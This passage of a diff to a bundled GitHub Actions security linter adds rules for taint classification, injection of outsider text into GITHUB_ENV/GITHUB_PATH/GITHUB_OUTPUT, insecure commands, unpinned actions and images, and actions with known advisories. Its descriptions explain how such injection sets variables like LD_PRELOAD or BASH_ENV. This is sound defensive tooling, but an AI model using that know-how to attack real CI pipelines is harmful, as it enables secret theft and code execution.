+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                const run = yaml_tree_child(step.node, 'run');
+                if (step.run === undefined || !run || !step.run.includes('::'))
+                    continue;
+                for (const m of step.run.matchAll(/::(set-output|save-state|set-env|add-path)\b/g))
+                    out.push({
+                        message: `'::${m[1]}' is deprecated: use ${DEPRECATED[m[1] ?? ''] ?? ''}`,
+                        line: lineWithin(model, run, step.run, m.index),
+                    });
+            }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/taint.ts
+
+const TRUSTED_GITHUB = new Set([
+    'event_name',
+    'repository',
+    'repository_owner',
+    'repository_id',
+    'repository_owner_id',
+    'repositoryurl',
+    'sha',
+    'run_id',
+    'run_number',
+    'run_attempt',
+    'workflow',
+    'workflow_ref',
+    'workflow_sha',
+    'server_url',
+    'api_url',
+    'graphql_url',
+    'token',
+    'job',
+    'action',
+    'action_path',
+    'action_ref',
+    'action_repository',
+    'action_status',
+    'workspace',
+    'ref_type',
+    'ref_protected',
+    'retention_days',
+    'event_path',
+    'env',
+    'path',
+    'output',
+    'secret_source',
+]);
+// Branch and tag names of the base repository: only its writers create them, and git forbids spaces.
+const CONSTRAINED_GITHUB = new Set(['ref', 'ref_name', 'base_ref', 'actor', 'triggering_actor', 'actor_id', 'triggering_actor_id']);
+// Leaves of event payloads an outsider writes freely (webhook payload fields).
+const FREE_LEAVES = new Set([
+    'title',
+    'body',
+    'message',
+    'email',
+    'label',
+    'head_ref',
+    'head_branch',
+    'display_title',
+    'description',
+    'page_name',
+    'summary',
+    'text',
+    'homepage',
+    'default_branch',
+    'content',
+    'answer',
+    'path',
+    'filename',
+]);
+const CONSTRAINED_LEAVES = new Set([
+    'number',
+    'id',
+    'node_id',
+    'sha',
+    'before',
+    'after',
+    'draft',
+    'merged',
+    'locked',
+    'fork',
+    'private',
+    'state',
+    'action',
+    'author_association',
+    'conclusion',
+    'status',
+    'event',
+    'login',
+    'type',
+    'additions',
+    'deletions',
+    'changed_files',
+    'commits',
+    'comments',
+    'review_comments',
+    'size',
+    'forced',
+    'created',
+    'deleted',
+    'run_number',
+    'run_attempt',
+    'full_name',
+    'html_url',
+    'url',
+    'site_admin',
+    'mergeable',
+    'rebaseable',
+    'maintainer_can_modify',
+    'distinct',
+    'timestamp',
+    'visibility',
+    'archived',
+    'disabled',
+    'position',
+    'line',
+    'original_line',
+    'start_line',
+    'original_position',
+    'side',
+    'commit_id',
+    'original_commit_id',
+    'in_reply_to_id',
+    'pull_request_review_id',
+    'workflow_id',
+    'check_suite_id',
+    'language',
+    'stargazers_count',
+    'watchers_count',
+    'forks_count',
+    'open_issues_count',
+]);
+// Parents whose `name` is a repository, account or workflow name (constrained characters), not free text.
+const NAMED_CONSTRAINED = new Set(['repo', 'repository', 'head_repository', 'base', 'owner', 'user', 'sender', 'organization', 'workflow']);
+function eventLeaf(path) {
+    const rest = path.slice(2).filter((p) => p !== '*');
+    if (rest.length === 0)
+        return { taint: 'free', confidence: 'high' };
+    // The base repository's own metadata is the maintainers'.
+    if (rest[0] === 'repository' || rest[0] === 'organization' || rest[0] === 'enterprise' || rest[0] === 'installation')
+        return { taint: 'trusted', confidence: 'high' };
+    if (rest[0] === 'inputs')
+        return { taint: 'constrained', confidence: 'medium' };
+    const leaf = rest[rest.length - 1] ?? '';
+    const parent = rest[rest.length - 2] ?? '';
+    if (leaf === 'ref')
+        return parent === 'head' ? { taint: 'free', confidence: 'high' } : { taint: 'constrained', confidence: 'high' };
+    if (leaf === 'name')
+        return NAMED_CONSTRAINED.has(parent) ? { taint: 'constrained', confidence: 'high' } : { taint: 'free', confidence: 'high' };
+    if (FREE_LEAVES.has(leaf))
+        return { taint: 'free', confidence: 'high' };
+    if (CONSTRAINED_LEAVES.has(leaf) || /_(id|at|sha|url|count)$/.test(leaf))
+        return { taint: 'constrained', confidence: 'high' };
+    // An object (`github.event.pull_request`, `...head_commit`) serialises its free-text fields too.
+    if (/^(pull_request|issue|comment|review|head_commit|commits|workflow_run|discussion|release|pages|head|base|label|labels|sender|user|author|committer)$/.test(leaf))
+        return { taint: 'free', confidence: 'high' };
+    return { taint: 'free', confidence: 'medium' };
+}
+/** Output names of well-known actions whose values are outsiders' text (changed file names). */
+const TAINTED_OUTPUTS = {
+    'tj-actions/changed-files': /files|_list$/,
+    'dorny/paths-filter': /_files$/,
+    'tj-actions/branch-names': /branch|ref/,
+};
+const key = (p) => p.join('.');
+function classify(path, scope, depth) {
+    const [root = '', second = '', third = ''] = path;
+    const one = (taint, confidence) => [{ path: key(path), taint, confidence }];
+    switch (root) {
+        case 'secrets':
+        case 'vars':
+        case 'runner':
+        case 'strategy':
+        case 'job':
+            return one('trusted', 'high');
+        case 'github': {
+            if (path.length === 1)
+                return one('free', 'high');
+            const name = second.toLowerCase();
+            if (name === 'event')
+                return eventLeaf(path).taint === 'trusted' ? one('trusted', 'high') : [{ path: key(path), ...eventLeaf(path) }];
+            if (name === 'head_ref')
+                return one('free', 'high');
+            if (TRUSTED_GITHUB.has(name))
+                return one('trusted', 'high');
+            if (CONSTRAINED_GITHUB.has(name))
+                return one('constrained', 'high');
+            return one('free', 'medium');
+        }
+        case 'inputs': {
+            const type = scope.inputType(second);
+            if (type && type !== 'string')
+                return one('constrained', 'high');
+            return scope.inputsFromCaller ? one('free', 'medium') : one('constrained', 'medium');
+        }
+        case 'env': {
+            const value = second ? scope.env(second) : undefined;
+            if (value === undefined || depth > 4)
+                return [];
+            return sourcesOfTemplate(value, scope, depth + 1).map((s) => ({ ...s, path: `${key(path)} = ${s.path}` }));
+        }
+        case 'matrix': {
+            const m = second ? scope.matrix(second) : undefined;
+            if (!m || 'literal' in m)
+                return [];
+            return sourcesOfTemplate(`\${{ ${m.expression} }}`, scope, depth + 1).map((s) => ({
+                ...s,
+                path: `${key(path)} from ${s.path}`,
+                confidence: 'low',
+            }));
+        }
+        case 'steps': {
+            if (third !== 'outputs')
+                return one('constrained', 'high');
+            const uses = scope.stepUses(second)?.toLowerCase();
+            const action = uses?.replace(/@.*$/, '');
+            const tainted = action ? TAINTED_OUTPUTS[action] : undefined;
+            if (tainted && tainted.test(path[3] ?? ''))
+                return one('free', 'high');
+            return one('free', 'low');
+        }
+        case 'needs':
+        case 'jobs':
+            return third === 'outputs' ? one('free', 'low') : one('constrained', 'high');
+        default:
+            return one('free', 'low');
+    }
+}
+/** The tainted values an expression's result can contain (comparisons and tests yield booleans, so none). */
+function expressionSources(e, scope, depth = 0) {
+    const path = accessPath(e);
+    if (path)
+        return classify(path, scope, depth);
+    if (e instanceof Grouping)
+        return expressionSources(e.group, scope, depth);
+    if (e instanceof Logical) {
+        // `a && b` and `a || b` yield one of their operands.
+        return e.args.flatMap((a) => expressionSources(a, scope, depth));
+    }
+    if (e instanceof FunctionCall) {
+        const name = callName(e);
+        if (name === 'format' || name === 'join' || name === 'tojson' || name === 'fromjson')
+            return e.args.flatMap((a) => expressionSources(a, scope, depth));
+        return [];
+    }
+    if (e instanceof IndexAccess)
+        return expressionSources(e.expr, scope, depth);
+    return [];
+}
+/** The tainted values every `${{ }}` of a string passes on. */
+function sourcesOfTemplate(text, scope, depth = 0) {
+    return templateExpressions(text).flatMap((e) => (e.parsed ? expressionSources(e.parsed, scope, depth) : []));
+}
+/** The embedded expressions of a string, parsed. */
+function templateExpressions(text) {
+    return embeddedExpressions(text).map((e) => ({ ...e, parsed: parseExpression(e.source) }));
+}
+/** The worst taint of a set of sources, with the confidence of the surest source of that taint. */
+function worst(sources) {
+    const rank = { free: 0, constrained: 1, trusted: 2 };
+    const conf = { high: 0, medium: 1, low: 2 };
+    return [...sources].sort((a, b) => rank[a.taint] - rank[b.taint] || conf[a.confidence] - conf[b.confidence])[0];
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/github-env.ts
+
+
+
+
+
+
+const FILES = /\$\{?(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT)\}?|\$env:(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT)/;
+const sourcesOf = (source, scope) => {
+    const e = parseExpression(source);
+    return e ? expressionSources(e, scope) : [];
+};
+/** The worst outsider-written value a line passes on through `$VAR` (env indirection). */
+function lineSource(line, scope) {
+    const sources = [...line.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?|\$env:([A-Za-z_][A-Za-z0-9_]*)/g)].flatMap((m) => {
+        const name = m[1] ?? m[2] ?? '';
+        if (/^GITHUB_(ENV|PATH|OUTPUT)$/.test(name))
+            return [];
+        const value = scope.env(name);
+        return value === undefined ? [] : templateExpressions(value).flatMap((e) => (e.parsed ? sourcesOf(e.source, scope) : []));
+    });
+    // An inline `${{ }}` on the line is template-injection's finding already.
+    return worst(sources.filter((s) => s.taint === 'free'));
+}
+/** Outsider-written values appended to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT, directly or through env. */
+const githubEnv = {
+    id: 'github-env',
+    title: 'Outsider-controlled value written to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: 'A value with a newline can set any environment variable for the following steps (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`) or put a folder of its choosing first on PATH; through GITHUB_OUTPUT it forges other outputs. Passing the value through `env:` does not help here: the file is parsed line by line.',
+    fix: 'Do not write outsiders\' text to these files; validate it to a fixed shape first (`[[ "$V" =~ ^[0-9]+$ ]]`), or pass it to later steps as an artifact treated as data.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs) {
+            for (const step of job.steps) {
+                if (step.run === undefined || !FILES.test(step.run))
+                    continue;
+                const scope = stepScope(model, job, step);
+                const runNode = yaml_tree_child(step.node, 'run');
+                let offset = 0;
+                for (const line of step.run.split('\n')) {
+                    const file = FILES.exec(line);
+                    if (file && runNode) {
+                        const source = lineSource(line, scope);
+                        const severity = source ? injectionSeverity('free', model.exposure) : undefined;
+                        if (source && severity) {
+                            const name = file[1] ?? file[2] ?? '';
+                            out.push({
+                                message: `${source.path}, which an outsider writes, is appended to ${name}`,
+                                line: lineWithin(model, runNode, step.run, offset),
+                                severity: name === 'GITHUB_OUTPUT' && severity === 'critical' ? 'high' : severity,
+                                confidence: source.confidence,
+                            });
+                        }
+                    }
+                    offset += line.length + 1;
+                }
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/glob-filters.ts
+
+/** What is wrong with one filter pattern, or undefined. GitHub's filter globs: `*`, `**`, `?`, `+`, `[]`, `!`. */
+function globProblem(pattern, kind) {
+    if (pattern.trim() !== pattern)
+        return 'has leading or trailing spaces, which are matched literally';
+    if (pattern === '' || pattern === '!')
+        return 'is empty';
+    const body = pattern.startsWith('!') ? pattern.slice(1) : pattern;
+    let open = -1;
+    for (let i = 0; i < body.length; i += 1) {
+        const c = body[i];
+        if (c === '\\')
+            i += 1;
+        else if (c === '[') {
+            if (open >= 0)
+                return 'opens a [ ] class inside another';
+            open = i;
+        }
+        else if (c === ']') {
+            if (open < 0)
+                return 'closes a [ ] class it never opened';
+            if (i === open + 1)
+                return 'has an empty [ ] class';
+            open = -1;
         }
     }
-    return { kind, doc, root, triggers, jobs };
+    if (open >= 0)
+        return 'has a [ that is never closed';
+    if (/\*\*\*/.test(body))
+        return 'has *** (use ** for any depth)';
+    if (kind === 'path' && body.startsWith('./'))
+        return "starts with './', which never matches (paths are relative to the repository root, without './')";
+    if (kind === 'ref') {
+        if (/\s|~|\^|:|\.\.|@\{/.test(body))
+            return 'contains a character git does not allow in ref names';
+        if (body.startsWith('refs/heads/'))
+            return "starts with 'refs/heads/', which branch filters already imply (it never matches)";
+    }
+    return undefined;
 }
-/** The action a `uses:` names, without its ref: `actions/checkout`, `./local`, `docker://img`. */
-function actionName(uses) {
-    const at = uses.lastIndexOf('@');
-    return (at > 0 && !uses.startsWith('docker://') ? uses.slice(0, at) : uses).toLowerCase();
+const FILTERS = {
+    branches: 'ref',
+    'branches-ignore': 'ref',
+    tags: 'ref',
+    'tags-ignore': 'ref',
+    paths: 'path',
+    'paths-ignore': 'path',
+};
+/** Branch, tag and path filters whose glob never matches what was meant. */
+const globFilters = {
+    id: 'glob-filters',
+    title: 'Filter pattern that cannot match',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'validation',
+    description: "GitHub's parser accepts any string as a branch, tag or path filter; an unclosed `[`, a './' prefix or a character git forbids in refs makes the filter silently match nothing, so the workflow never runs (or never skips).",
+    fix: 'Write the pattern in the filter syntax: `release/**`, `v[0-9]+.*`, `src/**`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        for (const event of ['push', 'pull_request', 'pull_request_target', 'workflow_run']) {
+            const node = yaml_tree_child(model.on, event);
+            for (const [key, kind] of Object.entries(FILTERS)) {
+                for (const item of yaml_tree_items(yaml_tree_child(node, key))) {
+                    const p = yaml_tree_text(item);
+                    if (p === undefined)
+                        continue;
+                    const problem = globProblem(p, kind);
+                    if (problem)
+                        out.push({ message: `${event}.${key} '${p}' ${problem}`, line: item.line });
+                }
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/insecure-commands.ts
+
+function allows(env) {
+    const v = yaml_tree_child(env, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
+    return v && /^(true|1|yes)$/i.test(yaml_tree_text(v) ?? '') ? v : undefined;
 }
+/** ACTIONS_ALLOW_UNSECURE_COMMANDS turning `::set-env` and `::add-path` back on. */
+const insecureCommands = {
+    id: 'insecure-commands',
+    title: 'Insecure workflow commands re-enabled',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: 'With ACTIONS_ALLOW_UNSECURE_COMMANDS, anything a step prints (a test name, a log line from a dependency) can set environment variables or PATH for the following steps with `::set-env` / `::add-path`, which GitHub disabled in 2020 for that reason.',
+    fix: 'Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH instead.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        const flag = (env, where) => {
+            const v = allows(env);
+            if (v)
+                out.push({ message: `${where} sets ACTIONS_ALLOW_UNSECURE_COMMANDS`, line: v.line });
+        };
+        flag(model.env, 'the workflow');
+        for (const job of model.jobs) {
+            flag(job.env, `job '${job.id}'`);
+            for (const step of job.steps)
+                flag(step.env, `a step of '${job.id}'`);
+        }
+        return out;
+    },
+};
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/job-hygiene.ts
-
 
 /** `secrets: inherit` on a reusable-workflow call. */
 const secretsInherit = {
     id: 'secrets-inherit',
     title: 'Every secret passed to a called workflow',
     severity: 'medium',
+    confidence: 'high',
+    category: 'security',
     description: 'With `secrets: inherit` the called workflow receives every secret of the caller, including ones it never needs; one compromised step there can read them all.',
     fix: 'Pass only the secrets the called workflow declares: `secrets: { registry-token: ${{ secrets.REGISTRY_TOKEN }} }`.',
     appliesTo: ['workflow'],
@@ -36683,39 +38387,13 @@ const secretsInherit = {
         }));
     },
 };
-const UPLOADERS = new Set(['actions/upload-artifact', 'actions/upload-pages-artifact']);
-/** `actions/checkout` leaving the token in .git/config of a job that uploads artifacts. */
-const persistCredentials = {
-    id: 'persist-credentials',
-    title: 'Checkout credentials persisted in a job that uploads artifacts',
-    severity: 'high',
-    description: "actions/checkout writes the token into .git/config unless `persist-credentials: false`; an artifact that includes the checkout (a common `path: .`) publishes it to anyone who can download the run's artifacts (ArtiPACKED, 2024).",
-    fix: 'Add `with: { persist-credentials: false }` to the checkout step.',
-    appliesTo: ['workflow', 'action'],
-    check(model) {
-        const out = [];
-        for (const job of model.jobs) {
-            if (!job.steps.some((s) => s.uses && UPLOADERS.has(actionName(s.uses))))
-                continue;
-            for (const step of job.steps) {
-                if (!step.uses || actionName(step.uses) !== 'actions/checkout')
-                    continue;
-                if (yaml_tree_text(yaml_tree_child(step.with, 'persist-credentials')) === 'false')
-                    continue;
-                out.push({
-                    message: `job '${job.id}' uploads artifacts after a checkout that keeps the token in .git/config`,
-                    line: step.usesLine,
-                });
-            }
-        }
-        return out;
-    },
-};
 /** Jobs that can run for the runner's six-hour default. */
 const missingTimeout = {
     id: 'missing-timeout',
     title: 'Job without timeout-minutes',
     severity: 'low',
+    confidence: 'high',
+    category: 'hygiene',
     description: 'A hung job holds its runner (and on hosted runners, bills) for the six-hour default, and blocks the pipeline behind it.',
     fix: 'Set `timeout-minutes` on the job, a few times its usual duration.',
     appliesTo: ['workflow'],
@@ -36731,6 +38409,8 @@ const selfHostedPullRequest = {
     id: 'self-hosted-pr',
     title: 'Self-hosted runner on pull request events',
     severity: 'high',
+    confidence: 'high',
+    category: 'security',
     description: 'On a public repository anyone can open a pull request whose code then runs on the self-hosted machine, which usually persists between jobs and sits inside the network.',
     fix: 'Use GitHub-hosted (or ephemeral, isolated) runners for pull request events, or restrict the job to trusted authors with an `if:` on the author association.',
     appliesTo: ['workflow'],
@@ -36753,105 +38433,130 @@ const selfHostedPullRequest = {
     },
 };
 
-;// CONCATENATED MODULE: ./packages/workflows/src/rules/permissions.ts
+;// CONCATENATED MODULE: ./packages/workflows/data/actions-advisories.json
+const actions_advisories_namespaceObject = /*#__PURE__*/JSON.parse('{"source":"GitHub Advisory Database, reviewed advisories of the GitHub Actions ecosystem (OSV files advisories/github-reviewed/... of github/advisory-database, read from its mirror xtqqczze/github-advisory-database)","taken":"2026-12-06","complete":false,"note":"A partial snapshot: the advisories below were read one by one. `slipway audit --refresh-advisories FILE` writes a complete one from GitHub\'s REST API (GET /advisories?ecosystem=actions).","advisories":[{"id":"GHSA-mrrh-fwg8-r2c3","aliases":["CVE-2025-30066"],"summary":"tj-actions changed-files through 45.0.7 allows remote attackers to discover secrets by reading actions logs.","severity":"high","package":"tj-actions/changed-files","vulnerable":"<= 45.0.7","patched":"46.0.1"},{"id":"GHSA-cxww-7g56-2vh6","aliases":["CVE-2024-42471"],"summary":"@actions/download-artifact has an Arbitrary File Write via artifact extraction","severity":"high","package":"actions/download-artifact","vulnerable":">= 4.0.0, < 4.1.7","patched":"4.1.7"},{"id":"GHSA-vqf5-2xx6-9wfm","aliases":["CVE-2025-24362"],"summary":"GitHub PAT written to debug artifacts","severity":"high","package":"github/codeql-action","vulnerable":">= 3.26.11, < 3.28.3","patched":"3.28.3"},{"id":"GHSA-vqf5-2xx6-9wfm","aliases":["CVE-2025-24362"],"summary":"GitHub PAT written to debug artifacts","severity":"high","package":"github/codeql-action","vulnerable":">= 2.26.11, < 3.0.0","patched":"3.28.3"},{"id":"GHSA-qmg3-hpqr-gqvc","aliases":["CVE-2025-30154"],"summary":"Multiple Reviewdog actions were compromised during a specific time period","severity":"high","package":"reviewdog/action-setup","vulnerable":"= 1","patched":null}]}');
+;// CONCATENATED MODULE: ./packages/workflows/src/advisories.ts
 
-/** Jobs that run with the repository's default token because nothing sets `permissions`. */
-const permissionsMissing = {
-    id: 'permissions-missing',
-    title: 'GITHUB_TOKEN permissions not declared',
-    severity: 'medium',
-    description: "Without a `permissions` block a job's GITHUB_TOKEN gets the repository or organisation default, which is write access to contents, packages and more on many repositories.",
-    fix: 'Add `permissions: {}` at the top of the workflow and grant each job only what it needs, e.g. `permissions: { contents: read }`.',
-    appliesTo: ['workflow'],
-    check(model) {
-        if (yaml_tree_child(model.root, 'permissions') !== undefined)
-            return [];
-        return model.jobs
-            .filter((job) => yaml_tree_child(job.node, 'permissions') === undefined)
-            .map((job) => ({
-            message: `job '${job.id}' runs with the default token permissions (no permissions at workflow or job level)`,
-            line: job.line,
-        }));
-    },
-};
-function broadGrants(node, where, topLevel) {
-    if (!node)
-        return [];
-    const scalar = yaml_tree_text(node);
-    if (scalar === 'write-all') {
-        return [{ message: `${where} grants write-all: every scope of the token can write`, line: node.line, severity: 'high' }];
-    }
-    if (!topLevel)
-        return [];
-    // At workflow level a write grant reaches every job, including those that run untrusted tools.
-    return yaml_tree_entries(node)
-        .filter(([, v]) => yaml_tree_text(v) === 'write')
-        .map(([scope]) => ({
-        message: `${where} grants '${scope}: write' to every job`,
-        line: keyLine(node, scope),
-        fix: `Set \`permissions: {}\` at workflow level and grant \`${scope}: write\` only in the job that needs it.`,
-    }));
+
+const advisory = src/* decode.object */.D4.object({
+    id: src/* decode.string */.D4.string,
+    aliases: src/* decode.withDefault */.D4.withDefault(src/* decode.array */.D4.array(src/* decode.string */.D4.string), []),
+    summary: src/* decode.string */.D4.string,
+    severity: src/* decode.string */.D4.string,
+    package: src/* decode.string */.D4.string,
+    vulnerable: src/* decode.string */.D4.string,
+    patched: src/* decode.withDefault */.D4.withDefault(src/* decode.nullable */.D4.nullable(src/* decode.string */.D4.string), null),
+});
+const snapshot = src/* decode.object */.D4.object({
+    source: src/* decode.string */.D4.string,
+    taken: src/* decode.string */.D4.string,
+    complete: src/* decode.withDefault */.D4.withDefault(src/* decode.boolean */.D4.boolean, false),
+    advisories: src/* decode.array */.D4.array(advisory),
+});
+/** Decodes an advisory snapshot (the shipped one, or one written by a refresh). */
+function decodeAdvisorySnapshot(json, source) {
+    return (0,src/* decodeDocument */.w8)(snapshot, json, source);
 }
-/** `write-all`, or write scopes granted to the whole workflow instead of the one job that needs them. */
-const permissionsBroad = {
-    id: 'permissions-broad',
-    title: 'GITHUB_TOKEN permissions broader than needed',
-    severity: 'medium',
-    description: 'A token that can write is what an attacker who gets code execution in a job (a poisoned dependency, an injected script) uses to push code, publish packages or mint OIDC tokens.',
-    fix: 'Grant scopes per job, and only the scopes that job uses; never `write-all`.',
-    appliesTo: ['workflow'],
-    check(model) {
-        const out = broadGrants(yaml_tree_child(model.root, 'permissions'), 'the workflow', true);
-        for (const job of model.jobs)
-            out.push(...broadGrants(yaml_tree_child(job.node, 'permissions'), `job '${job.id}'`, false));
-        return out;
-    },
-};
+let shipped;
+/** The snapshot shipped with Slipway (data/actions-advisories.json). */
+function shippedAdvisories() {
+    shipped ??= decodeAdvisorySnapshot(actions_advisories_namespaceObject, 'data/actions-advisories.json');
+    return shipped;
+}
+/** `v4.1.2` -> [4, 1, 2]; undefined for anything that is not a version. */
+function parseVersion(v) {
+    const m = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?$/.exec(v.trim());
+    return m ? [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)] : undefined;
+}
+function compare(a, b) {
+    for (let i = 0; i < 3; i += 1)
+        if ((a[i] ?? 0) !== (b[i] ?? 0))
+            return (a[i] ?? 0) - (b[i] ?? 0);
+    return 0;
+}
+/** True when a version satisfies a GitHub range (`>= 4.0.0, < 4.1.7`, `<= 45.0.7`, `= 1`). */
+function inRange(version, range) {
+    const v = parseVersion(version);
+    if (!v)
+        return false;
+    return range.split(',').every((part) => {
+        const m = /^\s*(>=|<=|>|<|=)\s*v?([\d.]+)\s*$/.exec(part);
+        const bound = m ? parseVersion(m[2] ?? '') : undefined;
+        if (!m || !bound)
+            return false;
+        const c = compare(v, bound);
+        switch (m[1]) {
+            case '>=':
+                return c >= 0;
+            case '<=':
+                return c <= 0;
+            case '>':
+                return c > 0;
+            case '<':
+                return c < 0;
+            default:
+                return c === 0;
+        }
+    });
+}
+/** The advisories that affect `owner/repo` at a version. */
+function advisoriesFor(db, repo, version) {
+    // A moving tag (`v4`) points at the line's latest release today: only an advisory naming that tag matches it.
+    const full = /^v?\d+\.\d+\.\d+$/.test(version.trim());
+    return db.advisories.filter((a) => a.package.toLowerCase() === repo &&
+        (full ? inRange(version, a.vulnerable) : a.vulnerable.trim() === `= ${version.trim().replace(/^v/, '')}`));
+}
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/pinning.ts
 
+
 const SHA = /^[0-9a-f]{40}$/;
 const RELEASE_TAG = /^v\d+(\.\d+){0,2}$/;
-/** `owner/repo[/path]@ref` split into its owner and ref; undefined for local and docker uses. */
-function remoteRef(uses) {
-    if (uses.startsWith('./') || uses.startsWith('docker://'))
-        return undefined;
-    const at = uses.lastIndexOf('@');
-    const owner = uses.split('/')[0] ?? '';
-    return { owner: owner.toLowerCase(), ref: at < 0 ? '' : uses.slice(at + 1) };
+/** Every `uses:` of a file with its line: steps and reusable-workflow calls. */
+const usesCache = new WeakMap();
+function usesOf(model) {
+    const hit = usesCache.get(model);
+    if (hit)
+        return hit;
+    const out = [];
+    usesCache.set(model, out);
+    for (const job of model.jobs) {
+        if (job.calls)
+            out.push({ uses: job.calls, line: yaml_tree_child(job.node, 'uses')?.line ?? job.line });
+        for (const step of job.steps)
+            if (step.uses)
+                out.push({ uses: step.uses, line: step.usesLine });
+    }
+    return out;
 }
 /** Unpinned `uses:` of steps and of reusable-workflow calls. */
 const unpinnedUses = {
     id: 'unpinned-uses',
     title: 'Action or reusable workflow not pinned to a commit SHA',
     severity: 'high',
-    description: 'A tag or branch can be moved to new code by whoever controls the action repository (the tj-actions/changed-files compromise of March 2025 rewrote every tag). Only a full commit SHA is immutable.',
-    fix: 'Pin to the full 40-character commit SHA and keep the version in a comment: `uses: owner/action@<sha> # v4.2.2`.',
+    confidence: 'high',
+    category: 'security',
+    description: 'A tag or branch can be moved to new code by whoever controls the action repository (the tj-actions/changed-files compromise of March 2025 rewrote every tag). Only a full commit SHA is immutable. Local actions (`./path`) and same-repository calls (`$/path@ref`, `./.github/workflows/x.yml`) come from the repository itself and are not reported.',
+    fix: 'Pin to the full 40-character commit SHA and keep the version in a comment: `uses: owner/action@<sha> # v4.2.2` (`slipway audit --fix` writes it).',
     appliesTo: ['workflow', 'action'],
     check(model, options) {
         const out = [];
-        const checkUses = (uses, line) => {
-            const remote = remoteRef(uses);
-            if (!remote)
-                return;
-            if (SHA.test(remote.ref))
-                return;
+        for (const { uses, line } of usesOf(model)) {
+            const remote = workflow_model_remoteUses(uses);
+            if (!remote || SHA.test(remote.ref))
+                continue;
+            // An expression (`uses: ${{ matrix.action }}`) is refused by GitHub's parser already.
+            if (uses.includes('${{'))
+                continue;
             const trusted = options.trustedOwners.some((o) => o.toLowerCase() === remote.owner);
             if (trusted && RELEASE_TAG.test(remote.ref))
-                return;
+                continue;
             const what = remote.ref === '' ? 'has no ref at all' : `is pinned to '${remote.ref}', a tag or branch that can move`;
             out.push({
                 message: `'${uses}' ${what}`,
                 line,
                 ...(trusted ? { fix: `'${remote.owner}' is trusted for release tags: pin to a release tag such as v1, or to a commit SHA.` } : {}),
             });
-        };
-        for (const job of model.jobs) {
-            if (job.calls)
-                checkUses(job.calls, yaml_tree_child(job.node, 'uses')?.line ?? job.line);
-            for (const step of job.steps)
-                if (step.uses)
-                    checkUses(step.uses, step.usesLine);
         }
         return out;
     },
@@ -36862,7 +38567,9 @@ const unpinnedImage = {
     id: 'unpinned-image',
     title: 'Container image not pinned to a digest',
     severity: 'medium',
-    description: 'An image tag (even a version tag) can be re-pushed; the job then runs whatever the registry serves today.',
+    confidence: 'high',
+    category: 'security',
+    description: 'An image tag (even a version tag) can be re-pushed; the job then runs whatever the registry serves today. An image without a tag, or `:latest`, changes on every release.',
     fix: 'Reference the image by digest: `image: node:24@sha256:<digest>` (keep the tag for readers; the digest decides).',
     appliesTo: ['workflow', 'action'],
     check(model) {
@@ -36871,7 +38578,11 @@ const unpinnedImage = {
             // An expression (`${{ matrix.image }}`) cannot be judged statically.
             if (!image || image.includes('${{') || DIGEST.test(image))
                 return;
-            out.push({ message: `container image '${image}' is not pinned to a digest`, line });
+            const tag = /:([\w][\w.-]*)$/.exec(image.split('/').pop() ?? '')?.[1];
+            if (!tag || tag === 'latest')
+                out.push({ message: `container image '${image}' has ${tag ? 'the moving tag latest' : 'no tag'} and no digest`, line });
+            else
+                out.push({ message: `container image '${image}' is pinned to a tag, not a digest`, line, confidence: 'medium' });
         };
         for (const job of model.jobs) {
             const container = yaml_tree_child(job.node, 'container');
@@ -36893,96 +38604,734 @@ const unpinnedImage = {
     },
 };
 
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/known-vulnerable.ts
+
+
+
+/** The version a `uses:` line claims: its tag, or the `# vX.Y.Z` comment beside a SHA pin. */
+function claimedVersion(ref, lineText) {
+    if (/^[0-9a-f]{40}$/.test(ref)) {
+        const comment = /#\s*(v?\d+(?:\.\d+){0,2})\b/.exec(lineText)?.[1];
+        return comment ? { version: comment, fromComment: true } : undefined;
+    }
+    return /^v?\d+(\.\d+){0,2}$/.test(ref) ? { version: ref, fromComment: false } : undefined;
+}
+const sets = new WeakMap();
+function packageSet(db) {
+    let set = sets.get(db);
+    if (!set) {
+        set = new Set(db.advisories.map((a) => a.package.toLowerCase()));
+        sets.set(db, set);
+    }
+    return set;
+}
+/** Actions at a version the advisory database (the shipped snapshot, or the API online) lists as vulnerable. */
+const knownVulnerableActions = {
+    id: 'known-vulnerable-actions',
+    title: 'Action version with a published advisory',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: "GitHub's advisory database lists vulnerabilities of actions (secrets in logs, file writes outside the workspace, compromised releases). The shipped snapshot is checked offline; with a token the online audit asks the API and resolves SHA pins to their tags.",
+    fix: 'Upgrade to the patched version the advisory names, or remove the action.',
+    appliesTo: ['workflow', 'action'],
+    check(model, options) {
+        const db = options.advisories ?? shippedAdvisories();
+        const packages = packageSet(db);
+        const out = [];
+        for (const { uses, line } of usesOf(model)) {
+            const r = workflow_model_remoteUses(uses);
+            if (!r || !packages.has(`${r.owner}/${r.repo}`))
+                continue;
+            const claim = claimedVersion(r.ref, model.doc.lines[line - 1] ?? '');
+            if (!claim)
+                continue;
+            for (const a of advisoriesFor(db, `${r.owner}/${r.repo}`, claim.version))
+                out.push({
